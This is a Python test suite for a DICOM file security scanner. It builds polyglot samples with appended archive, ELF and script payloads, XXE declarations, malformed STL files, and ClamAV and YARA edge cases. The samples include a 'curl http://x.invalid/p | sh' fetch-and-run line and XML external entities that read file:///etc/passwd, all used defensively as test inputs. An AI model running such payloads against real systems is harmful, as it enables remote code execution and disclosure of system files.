"""Round 3 of the outside tester's findings in the polyglot, documents, ClamAV and YARA code: each
sample is built here, and each test failed before the fix it names."""

from __future__ import annotations

import struct
import subprocess
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from pydicom.uid import DeflatedExplicitVRLittleEndian
from scan_samples import base, encode, pdf_document, quiet, rules, stop_process, zip_bytes
from test_clamd import CLAMD
from typer.testing import CliRunner

from pacsguard.cli import main
from pacsguard.scan import part10
from pacsguard.scan.clamd import Clamd
from pacsguard.scan.config import ScanSettings
from pacsguard.scan.model import Finding, Level
from pacsguard.scan.rules import documents
from pacsguard.scan.scanner import Scanner
from pacsguard.scan.yara_engine import BUILTIN, YaraEngine, YaraError
from peers.dcmtk import free_port

#: The payloads of the tester's samples, each with enough of its header to be verified.
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(range(200))
SEVENZ = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(range(200))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)
SCRIPT = b"#!/bin/sh\ncurl http://x.invalid/p | sh\n"
PAYLOADS = {"rar": RAR, "7z": SEVENZ, "ole": OLE, "elf": ELF, "zip": zip_bytes({"run.exe": b"MZ" + bytes(200)}),
            "script": SCRIPT}




def ob(tag: int, value: bytes, length: int | None = None) -> bytes:
    """An explicit VR little endian OB element (PS3.5 7.1.2), its length ``length`` if given."""
    return struct.pack("<HH2sHI", tag >> 16, tag & 0xFFFF, b"OB", 0, len(value) if length is None else length) + value


def short(tag: int, vr: str, value: bytes, length: int | None = None) -> bytes:
    """An explicit VR element with a 2-byte length (UI, LO...)."""
    return struct.pack("<HH2sH", tag >> 16, tag & 0xFFFF, vr.encode(), len(value) if length is None else length) + value


CREATOR = short(0x7FE10010, "LO", b"PACSGUARD TEST")


def ct() -> bytes:
    """pydicom's CT_small.dcm without its Data Set Trailing Padding (FFFC,FFFC): its last element is
    then Pixel Data (7FE0,0010), and private elements of group 7FE1 appended stay in tag order."""
    ds = base()
    del ds[0xFFFCFFFC]
    return quiet(lambda: encode(ds))


# 1. Whatever follows a low structure stop is searched as appended data is (polyglot._after_stop).

def one_byte_past_the_end(payload: bytes) -> bytes:
    """A last element whose length is one byte more than the file holds: structure.truncated."""
    return ct() + CREATOR + ob(0x7FE11010, payload, len(payload) + 1)


def overrun_then(payload: bytes) -> bytes:
    """A sequence whose item holds an element running 33 bytes past the item (structure.length-
    overrun), then the payload in a later top-level private element."""
    inner = short(0x00081150, "UI", b"1.2.3\x00") + short(0x00081155, "UI", b"1.2.3.4\x00", 40)
    item = struct.pack("<HHI", 0xFFFE, 0xE000, len(inner)) + inner
    sequence = struct.pack("<HH2sHI", 0x7FE1, 0x1001, b"SQ", 0, len(item) + 40) + item + bytes(40)
    return ct() + CREATOR + sequence + ob(0x7FE11010, payload)


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
@pytest.mark.parametrize("build", [one_byte_past_the_end, overrun_then], ids=["truncated", "overrun"])
def test_a_payload_past_a_low_structure_stop_is_found(kind: str, build: Callable[[bytes], bytes],
                                                      scanner: Scanner) -> None:
    data = build(PAYLOADS[kind])
    report = scanner.scan_bytes(data, "stop.dcm")
    found = [f for f in report.findings if f.rule == f"polyglot.appended-{kind}"]
    assert found and found[0].level == Level.HIGH, [(f.rule, f.level.label) for f in report.findings]
    # It says where: the payload's offset, and the stop it lies past.
    assert found[0].offset == data.rindex(PAYLOADS[kind][:8])
    stop = "structure.truncated" if build is one_byte_past_the_end else "structure.length-overrun"
    assert stop in found[0].explanation and rules(report)[stop] == Level.LOW


def test_a_payload_past_a_stop_is_found_without_yara_too() -> None:
    report = Scanner().scan_bytes(overrun_then(RAR), "stop.dcm")
    assert rules(report).get("polyglot.appended-rar") == Level.HIGH


def test_a_payload_past_a_stop_in_a_deflated_data_set_is_found(scanner: Scanner) -> None:
    """The walk stops in the inflated stream (PS3.5 A.5): what follows is searched there."""
    ds = base()
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    data = quiet(lambda: encode(ds))
    at = part10.read(data).meta_end
    body = zlib.decompress(data[at:], -zlib.MAX_WBITS) + CREATOR + ob(0x7FE11010, ELF, len(ELF) + 1)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    report = scanner.scan_bytes(data[:at] + packer.compress(body) + packer.flush(), "deflated.dcm")
    found = [f for f in report.findings if f.rule == "polyglot.appended-elf"]
    assert found and found[0].level == Level.HIGH and found[0].inflated
    assert found[0].offset == body.rindex(ELF[:8])


def test_a_cut_file_with_nothing_past_the_stop_stays_low(scanner: Scanner) -> None:
    """A merely cut file, and a cut Encapsulated PDF (a document, not a program), stay low."""
    for data in (ct()[:-1000], quiet(lambda: pdf_document(b"%PDF-1.4\n" + bytes(3000)))[:-1000]):
        report = scanner.scan_bytes(data, "cut.dcm")
        assert [f.rule for f in report.findings if f.level > Level.LOW] == []
        assert rules(report).get("structure.truncated") == Level.LOW


def test_pixel_data_past_a_stop_is_searched_for_programs_not_scripts(scanner: Scanner) -> None:
    """In cut pixel data an ELF is found, while scripts are not looked for there, as in element
    values (an image's samples can spell a short opening such as "iex(")."""
    data = ct()
    pixels = data.rindex(b"\xe0\x7f\x10\x00")
    value = b"iex(" + ELF + bytes(4000)
    cut = data[:pixels] + ob(0x7FE00010, value)[:-100]  # 100 bytes short: structure.truncated
    report = scanner.scan_bytes(cut, "cut.dcm")
    loud = {f.rule for f in report.findings if f.level > Level.LOW}
    assert "polyglot.appended-elf" in loud and loud <= {"polyglot.appended-elf", "yara.pacsguard_embedded_elf"}, loud


# 2. XXE with any XML Name, and an external DTD (documents.XML_EXTERNAL, yara/dicom.yar).

CDA = b'<?xml version="1.0"?>\n%s\n<ClinicalDocument><title>&x;</title></ClinicalDocument>\n'
EXTERNAL = {
    "colon": b'<!DOCTYPE ClinicalDocument [ <!ENTITY a:b SYSTEM "file:///etc/passwd"> ]>',
    "non-ascii": '<!DOCTYPE ClinicalDocument [ <!ENTITY xé SYSTEM "file:///etc/passwd"> ]>'.encode(),
    "parameter": b'<!DOCTYPE d [ <!ENTITY % p:\xc3\xa9 SYSTEM "http://x.invalid/e.dtd"> %p:\xc3\xa9; ]>',
    "public": b'<!DOCTYPE d [ <!ENTITY _x.1 PUBLIC "-//X//EN" "http://x.invalid/e"> ]>',
    "dtd-system": b'<!DOCTYPE ClinicalDocument SYSTEM "http://x.invalid/x.dtd">',
    "dtd-public": b'<!DOCTYPE ClinicalDocument PUBLIC "-//X//DTD CDA//EN" "http://x.invalid/x.dtd">',
    "dtd-non-ascii": '<!DOCTYPE Dokument-ä SYSTEM "x.dtd">'.encode(),
}
INTERNAL = {
    "internal entity": b'<!DOCTYPE d [ <!ENTITY a:b "text SYSTEM"> ]>',
    "internal subset": b'<!DOCTYPE ClinicalDocument [ <!ELEMENT title (#PCDATA)> ]>',
    "plain doctype": b"<!DOCTYPE ClinicalDocument>",
    "none": b"",
    "html 4.01": b'<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">',
    "xhtml 1.0": b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"\n'
                 b'  "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
}


@pytest.mark.parametrize("decl", sorted(EXTERNAL))
def test_an_external_entity_or_dtd_with_any_name_is_found(decl: str, scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(lambda: pdf_document(CDA % EXTERNAL[decl], "text/xml")), "cda.dcm")
    found = rules(report)
    assert found.get("documents.xml-external-entity") == Level.HIGH, found
    assert found.get("yara.pacsguard_xml_external_entity") == Level.HIGH, found


@pytest.mark.parametrize("decl", sorted(INTERNAL))
def test_internal_declarations_are_no_xxe(decl: str, scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(lambda: pdf_document(CDA % INTERNAL[decl], "text/xml")), "cda.dcm")
    assert not {"documents.xml-external-entity", "yara.pacsguard_xml_external_entity"} & set(rules(report))


def test_the_yara_rule_and_the_python_rule_agree() -> None:
    import yara

    rule = yara.compile(filepath=str(Path(str(BUILTIN)) / "dicom.yar"))
    for decl in [*EXTERNAL.values(), *INTERNAL.values(), b"<!ENTITY\t\n%\tp SYSTEM 'x'>", b"<!entity a system 'x'>"]:
        in_yara = any(m.rule == "pacsguard_xml_external_entity" for m in rule.match(data=CDA % decl))
        assert in_yara == (documents.XML_EXTERNAL.search(CDA % decl) is not None), decl


def test_the_xxe_pattern_is_linear_on_hostile_white_space() -> None:
    started = time.perf_counter()
    assert documents.XML_EXTERNAL.search(b"<!ENTITY" + b" " * 200_000 + b"<") is None
    assert time.perf_counter() - started < 1


# 3. A binary STL with a "solid" header is judged by its count (documents._stl).

def stl_document(stl: bytes) -> bytes:
    return quiet(lambda: pdf_document(stl, "model/stl"))


def binary_stl(header: bytes, count: int, triangles: int = 1) -> bytes:
    return header.ljust(80, b" ") + struct.pack("<I", count) + struct.pack("<12fH", *range(12), 0) * triangles


ASCII_STL = (b"solid part\n facet normal 0 0 1\n  outer loop\n   vertex 0 0 0\n   vertex 1 0 0\n"
             b"   vertex 0 1 0\n  endloop\n endfacet\nendsolid part\n")


@pytest.mark.parametrize("header", [b"solid part", b"SOLIDWORKS solid", b"  solid x facet endsolid", b"binary"])
def test_a_binary_stl_lying_about_its_count_is_found_whatever_its_header(header: bytes, scanner: Scanner) -> None:
    report = scanner.scan_bytes(stl_document(binary_stl(header, 1_000_000)), "stl.dcm")
    assert rules(report).get("documents.stl-size") == Level.HIGH


@pytest.mark.parametrize("stl", [binary_stl(b"solid part", 3, 3), ASCII_STL, ASCII_STL + b"\n",
                                 ASCII_STL.replace(b"part", "Bauteil_ä".encode()),
                                 ASCII_STL.replace(b"\n", b"\r\n").upper()],
                         ids=["binary-solid-header", "ascii-even", "ascii-odd-padded", "ascii-utf8-name",
                              "ascii-crlf-upper"])
def test_honest_stl_files_are_not_flagged(stl: bytes, scanner: Scanner) -> None:
    report = scanner.scan_bytes(stl_document(stl), "stl.dcm")
    assert "documents.stl-size" not in rules(report)


# 4. A file over clamd's StreamMaxLength is not scanned, and says so (clamd.Clamd.instream).

MARKER = b"PACSGUARD-ROUND3-CLAMAV-MARKER"


@contextmanager
def small_clamd_running(tmp: Path, *, alert_exceeds_max: bool) -> Iterator[tuple[Clamd, Clamd]]:
    """A clamd (Debian's clamav-daemon, as test_clamd.py starts it) with a 1 MiB StreamMaxLength, a
    256 KiB MaxFileSize (named as AlertExceedsMax asks, or passed silently), one signature, on a Unix
    socket and on TCP."""
    assert CLAMD.exists(), "install Debian's clamav-daemon package: apt-get install clamav-daemon"
    db = tmp / "db"
    db.mkdir()
    (db / "round3.ndb").write_text(f"PacsguardTest.Marker:0:*:{MARKER.hex()}\n")
    sock, port = tmp / "clamd.sock", free_port()
    conf = tmp / "clamd.conf"
    conf.write_text(f"LocalSocket {sock}\nTCPSocket {port}\nTCPAddr 127.0.0.1\nDatabaseDirectory {db}\n"
                    f"Foreground yes\nLogFile {tmp / 'clamd.log'}\nPidFile {tmp / 'clamd.pid'}\n"
                    f"TemporaryDirectory {tmp}\nMaxThreads 2\nStreamMaxLength 1M\nMaxFileSize 256K\n"
                    f"AlertExceedsMax {'yes' if alert_exceeds_max else 'no'}\n")
    proc = subprocess.Popen([str(CLAMD), "--config-file", str(conf)], stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT)
    unix, tcp = Clamd(str(sock), timeout=30), Clamd(f"tcp://127.0.0.1:{port}", timeout=30)
    try:
        deadline = time.monotonic() + 120
        while not (unix.ping() and tcp.ping()):
            assert proc.poll() is None, (proc.stdout.read() if proc.stdout else b"").decode()
            assert time.monotonic() < deadline, "clamd did not answer PING within 120 s"
            time.sleep(0.2)
        yield unix, tcp
    finally:
        stop_process(proc)


@pytest.fixture(scope="module")
def small_clamd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Clamd, Clamd]]:
    with small_clamd_running(tmp_path_factory.mktemp("clamd"), alert_exceeds_max=True) as clients:
        yield clients


def clamav(findings: list[Finding]) -> list[tuple[str, Level]]:
    return [(f.rule, f.level) for f in findings if f.rule.startswith("clamav")]


@pytest.mark.parametrize("size", [3 << 20, 40 << 20])
def test_a_file_over_stream_max_length_is_not_scanned_on_either_transport(
        size: int, small_clamd: tuple[Clamd, Clamd]) -> None:
    data = MARKER + bytes(size)
    for client in small_clamd:
        found = client.findings(data)
        assert clamav(found) == [("clamav.not-scanned", Level.MEDIUM)]
        why = found[0].explanation
        # The same reason on both transports: the size, the setting, clamd's own answer.
        assert f"did not scan this file: its {len(data):,} bytes are over clamd's StreamMaxLength" in why, why
        assert why.endswith("INSTREAM size limit exceeded. ERROR") and "pipe" not in why, why


def test_a_file_past_max_file_size_is_not_scanned(small_clamd: tuple[Clamd, Clamd]) -> None:
    """With AlertExceedsMax, clamd names a file it stopped at MaxFileSize Heuristics.Limits.Exceeded:
    not judged, not malware."""
    found = small_clamd[0].findings(MARKER + bytes(512 << 10))
    assert clamav(found) == [("clamav.not-scanned", Level.MEDIUM)] and "MaxFileSize" in found[0].explanation


def test_an_ok_past_max_file_size_is_not_taken_as_clean(tmp_path: Path) -> None:
    """Without AlertExceedsMax clamd answers OK, unscanned, for a file past MaxFileSize: the scanner,
    told that size (scan.clamd_max_file_size), reports it not scanned; below it an OK is clean."""
    with small_clamd_running(tmp_path, alert_exceeds_max=False) as (unix, _):
        infected = MARKER + bytes(512 << 10)
        assert unix.instream(infected) is None  # clamd's own answer: OK, though the marker is there
        told = replace(unix, max_file_size=256 << 10)
        found = told.findings(infected)
        assert clamav(found) == [("clamav.not-scanned", Level.MEDIUM)], found
        assert "MaxFileSize" in found[0].explanation and f"{len(infected):,} bytes" in found[0].explanation
        assert clamav(told.findings(bytes(100 << 10))) == []
        assert clamav(told.findings(MARKER + bytes(1000))) == [("clamav.found", Level.HIGH)]
        # The default is Debian's clamd.conf (25 MiB), and the configuration key reaches the engine.
        settings = ScanSettings(clamd=unix.address, clamd_max_file_size=256 << 10)
        engine = Scanner.from_settings(settings).clamd
        assert engine is not None and engine.max_file_size == 256 << 10
        assert Clamd(unix.address).max_file_size == ScanSettings().clamd_max_file_size == 25 << 20


def test_small_files_are_still_scanned_and_the_command_fails_on_a_refused_one(
        small_clamd: tuple[Clamd, Clamd], tmp_path: Path) -> None:
    unix, tcp = small_clamd
    for client in small_clamd:
        assert clamav(client.findings(MARKER + bytes(1000))) == [("clamav.found", Level.HIGH)]
    big = tmp_path / "big.dcm"
    big.write_bytes(ct() + CREATOR + ob(0x7FE11010, bytes(3 << 20)))
    for client in small_clamd:
        result = CliRunner().invoke(main.app, ["scan", "--format", "json", "--clamd", client.address, str(big)])
        assert result.exit_code == 1 and "clamav.not-scanned" in result.output, result.output


# 5. A YARA file that does not compile is named (yara_engine.YaraEngine.compile).

def test_a_rule_file_that_does_not_compile_is_named(tmp_path: Path) -> None:
    for i in (1, 2, 3):
        (tmp_path / f"ok{i}.yar").write_text(f"rule ok{i} {{ condition: true }}\n")
    (tmp_path / "site_rules.yar").write_text("rule fine { condition: true }\nrule broken { condition: foo }\n")
    with pytest.raises(YaraError) as raised:
        YaraEngine.compile([tmp_path])
    assert f"{tmp_path / 'site_rules.yar'}: line 2" in str(raised.value) and "foo" in str(raised.value)
    result = CliRunner().invoke(main.app, ["scan", "--yara-dir", str(tmp_path), str(tmp_path / "ok1.yar")])
    assert result.exit_code == 2 and "site_rules.yar" in result.output


def test_a_rule_file_that_is_not_utf8_is_named(tmp_path: Path) -> None:
    (tmp_path / "latin1.yar").write_bytes(b"rule caf\xe9 { condition: true }\n")
    with pytest.raises(YaraError, match="latin1.yar"):
        YaraEngine.compile([tmp_path])



@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-be"])
def test_an_external_entity_in_a_utf16_or_utf32_cda_is_found(codec: str, scanner: Scanner) -> None:
    """XML 1.0 4.3.3: a CDA may be UTF-16 with a byte order mark. Its bytes interleave NULs, so the
    ASCII patterns missed an external entity in it; the document is read as its text now."""
    bom = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff", "utf-32-be": b"\x00\x00\xfe\xff"}[codec]
    text = (CDA % EXTERNAL["colon"]).decode()
    report = scanner.scan_bytes(quiet(lambda: pdf_document(bom + text.encode(codec), "text/xml")), "cda.dcm")
    found = rules(report)
    assert found.get("documents.xml-external-entity") == Level.HIGH, found
    assert "embedded.mime-mismatch" not in found


def test_a_patient_cds_html_index_is_no_xxe(scanner: Scanner) -> None:
    """An outside tester's index.htm with an HTML 4.01 DOCTYPE was a high XXE finding: the W3C's
    DTD is named, never fetched by a browser."""
    page = (b'<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">\n'
            b"<html><head><title>Patient CD</title></head><body><a href='DICOMDIR'>images</a></body></html>\n")
    found = rules(scanner.scan_bytes(page, "cd/INDEX.HTM"))
    assert not {"documents.xml-external-entity", "yara.pacsguard_xml_external_entity"} & set(found), found
